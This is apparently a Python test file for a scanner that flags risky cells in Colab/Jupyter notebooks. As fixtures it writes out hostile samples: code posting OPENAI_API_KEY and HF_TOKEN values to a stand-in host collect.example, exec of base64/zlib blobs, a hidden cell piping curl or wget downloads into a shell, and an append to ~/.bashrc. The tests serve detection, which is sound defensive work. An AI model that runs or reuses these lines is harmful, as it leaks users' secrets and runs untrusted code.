"""Findings: the pairs that matter, and none on ordinary work."""

from __future__ import annotations

import json

import pytest
from labelled_set import CASES

from allmend.notebooks import read_bytes
from allmend.nouns.plan import Plan
from allmend.planning import plan_notebook


def planned(*sources: str, hidden: bool = False) -> Plan:
    meta = {"cellView": "form"} if hidden else {}
    cells = [{"cell_type": "code", "source": s, "metadata": meta, "outputs": []} for s in sources]
    return plan_notebook(
        read_bytes(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4}).encode()), path="a.ipynb"
    )


def ids(plan: Plan) -> dict[str, str]:
    return {finding.id: finding.severity for finding in plan.findings}


DRIVE = "from google.colab import drive\ndrive.mount('/content/drive')"
CLONE = "!git clone https://github.com/maker/tool\n!python tool/run.py"


def test_drive_beside_unpinned_foreign_code() -> None:
    found = planned(DRIVE, CLONE)
    assert ids(found) == {"account-and-foreign-code": "warning"}
    assert found.findings[0].cells == [0, 1]
    assert "tool/run.py" in found.findings[0].why


def test_a_pinned_clone_beside_the_drive_is_none() -> None:
    pinned = "!git clone https://github.com/maker/tool\n!cd tool && git checkout 1a2b3c4d\n!python tool/run.py"
    assert ids(planned(DRIVE, pinned)) == {}


def test_a_secret_sent_to_another_host_is_a_danger() -> None:
    source = 'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collect.example/x", json={"k": key})'
    assert ids(planned(source)) == {"secret-to-another-host": "danger"}
    home = source.replace("collect.example/x", "api.openai.com/v1/models")
    assert ids(planned(home)) == {}


def test_a_secret_of_the_notebook_service_counts_too() -> None:
    source = (
        "from google.colab import userdata\nimport requests\n"
        'requests.get("https://collect.example/?t=" + userdata.get("HF_TOKEN"))'
    )
    assert "secret-to-another-host" in ids(planned(source))


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode(blob))",
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode(x)).decode())",
    ],
)
def test_obfuscated_text_that_runs_is_a_danger(source: str) -> None:
    assert ids(planned(source))["obfuscated-text-runs"] == "danger"


def test_a_hidden_cell_that_fetches_and_runs() -> None:
    found = planned("!wget https://x.example/a.sh\n!bash a.sh\n!curl https://x.example/b.sh | sh", hidden=True)
    assert "hidden-fetch-and-run" in ids(found)


def test_a_public_link_and_writes_to_the_drive() -> None:
    found = planned(
        DRIVE, "!cp a.png /content/drive/MyDrive/a.png", "import gradio as gr\ngr.Blocks().launch(share=True)"
    )
    assert "public-server-and-drive" in ids(found)


def test_startup_files() -> None:
    assert "startup-files" in ids(planned("!echo evil >> ~/.bashrc"))


def test_weights_from_a_host_of_no_known_service() -> None:
    found = planned("import torch\n!wget https://x.example/w.ckpt\nm = torch.load('w.ckpt')")
    assert "weights-that-run-code" in ids(found)
    known = planned("import torch\n!wget https://huggingface.co/o/n/resolve/main/w.ckpt\nm = torch.load('w.ckpt')")
    assert "weights-that-run-code" not in ids(known)


def test_ordinary_notebooks_have_no_finding() -> None:
    quiet = {"an ordinary lesson", "data sets", "models of a hub", "pip in every spelling", "keras, hub and speech", "diffusers",
             "upload and download dialogs", "accelerators", "gradio and servers", "sending", "deleting"}  # fmt: skip
    for case in CASES:
        if case.name in quiet:
            assert plan_notebook(read_bytes(case.notebook()), path=case.name).findings == [], case.name
